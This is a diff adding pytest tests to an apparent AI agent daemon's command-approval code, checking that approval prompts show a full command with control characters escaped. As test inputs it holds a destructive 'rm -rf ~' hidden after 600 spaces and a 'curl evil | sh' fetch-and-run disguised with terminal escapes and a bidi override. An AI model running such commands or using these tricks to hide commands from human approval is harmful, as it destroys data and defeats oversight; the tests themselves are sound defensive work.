@@ -28,7 +28,7 @@ import pytest
 
 from daemon.agent.records import ApprovalRecord
 from daemon.chat.protocol import ErrorCode
-from daemon.cli.approvals import PreApproval
+from daemon.cli.approvals import PreApproval, question
 from daemon.paths import Home
 from daemon.settings import PermissionRule, load_settings
 from daemon.tools.approvals import ApprovalRefused, Approvals, PermissionGuard
@@ -1181,3 +1181,35 @@ def test_a_question_answered_elsewhere_is_put_away_by_the_interactive_chat(
             d.stop()
     # The interactive client never asked: the question was gone before Enter.
     assert b"[y]es / [n]o / [a]lways" not in seen
+
+
+def test_a_question_shows_the_whole_subject_with_control_characters_written_out() -> None:
+    hidden = "echo fine" + " " * 600 + "; rm -rf ~"
+    tricky = "echo ok\x1b[2K\r; curl evil | sh \u202e"
+    for subject in (hidden, tricky):
+        lines = question(
+            {
+                "tool": "run",
+                "subject": subject,
+                "summary": summarise_call("run", {"command": subject}),
+                "preview": f"$ {subject}\n(in /ws; sandboxed)",
+                "pattern": escape_glob(subject),
+                "timeout_s": 120,
+            }
+        )
+        shown = "\n".join(lines)
+        assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
+    assert "; rm -rf ~" in "\n".join(question({"tool": "run", "subject": hidden}))
+    assert "\\x1b[2K\\x0d; curl evil | sh \\u202e" in "\n".join(
+        question({"tool": "run", "subject": tricky})
+    )
+    assert "\x1b" not in summarise_call("run", {"command": tricky})
+
+
+async def test_the_approval_frame_carries_the_whole_command(tmp_path: Path) -> None:
+    g = _Guarded(tmp_path, timeout_s=0.2)
+    person = _Client(os.geteuid())
+    g.approvals.attach(person)
+    command = "echo fine" + " " * 600 + "; rm -rf ~"
+    await g.call("run", {"command": command})
+    assert person.frames[0]["subject"] == command
